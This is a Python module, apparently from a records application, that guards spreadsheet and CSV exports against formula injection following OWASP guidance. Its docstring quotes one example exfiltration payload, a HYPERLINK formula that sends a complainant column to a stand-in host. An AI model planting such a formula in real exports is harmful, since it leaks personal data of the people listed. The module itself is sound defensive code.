"""Cells of every spreadsheet Suqiu writes (the ledger, its import template, appraisal results).

Much of what the exports hold was typed by someone outside: a resident's title, a complainant's
name, a unit's name. A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` as
a formula (`=HYPERLINK("http://x/?"&J2,"查看")` would send the complainant column away when
clicked), and tab or CR lead to the same in CSV. So, following OWASP's guidance on CSV
injection, every text cell goes through `text_cell`: a text beginning with one of those
characters gets a single quote in front and shows as typed, and `cells` writes every text as a
string cell (openpyxl data type "s"), never a formula or an error code such as "#N/A". The
control characters an .xlsx cannot hold are dropped rather than failing the export.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The characters an .xlsx cannot hold (openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE).
_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def text_cell(value: Any) -> Any:
    """A text as it may go in a cell (xlsx or CSV); anything else unchanged."""
    if not isinstance(value, str):
        return value
    value = _ILLEGAL.sub("", str(value))
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def cells(sheet, values: Iterable[Any]) -> list:
    """One row for `sheet.append` (openpyxl, write-only or not): every text a string cell."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for value in values:
        if value is None:
            row.append(None)
            continue
        # A cell per value: openpyxl's write-only sheet would otherwise reuse one cell object.
        cell = WriteOnlyCell(sheet, text_cell(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"  # not "f" nor "e", whatever the text looks like
        row.append(cell)
    return row


def append(sheet, values: Iterable[Any]) -> None:
    sheet.append(cells(sheet, values))
